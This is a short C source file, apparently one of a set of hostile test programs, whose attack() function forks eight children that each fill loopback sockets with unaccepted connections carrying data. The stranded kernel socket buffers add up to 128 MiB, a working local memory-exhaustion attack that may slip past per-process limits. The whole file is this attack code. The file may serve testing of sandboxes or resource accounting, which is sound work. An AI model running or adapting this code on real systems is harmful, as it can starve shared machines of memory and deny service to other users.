#include "hostile.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/wait.h>

static char bytes[1 << 16];
static size_t *held;

/* Connections that nobody accepts, to one listening socket after the other; those who made them have closed them. */
static void fill(void) {
    for (int server; (server = socket(AF_INET, SOCK_STREAM, 0)) >= 0;) {
        struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
        socklen_t size = sizeof here;
        if (bind(server, (struct sockaddr *)&here, size) || listen(server, 4096)) return;
        getsockname(server, (struct sockaddr *)&here, &size);
        for (int i = 0; i < 120; i++) {
            int client = socket(AF_INET, SOCK_STREAM, 0);
            if (client < 0) return;
            /* With what is held for the makers of connections at its bound, only what the others have received counts. */
            if (connect(client, (struct sockaddr *)&here, size)) return;
            ssize_t sent = send(client, bytes, 1 << 13, MSG_DONTWAIT);
            if (sent > 0) __sync_fetch_and_add(held, (size_t)sent);
            close(client);
        }
    }
}

int attack(void) {
    held = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < 8; i++) {
        if (fork() == 0) {
            fill();
            pause();
        }
    }
    while (*held < (size_t)128 << 20) usleep(1000);
    printf("%zu MiB in connections that nobody has accepted\n", *held >> 20);
    return 0;
}
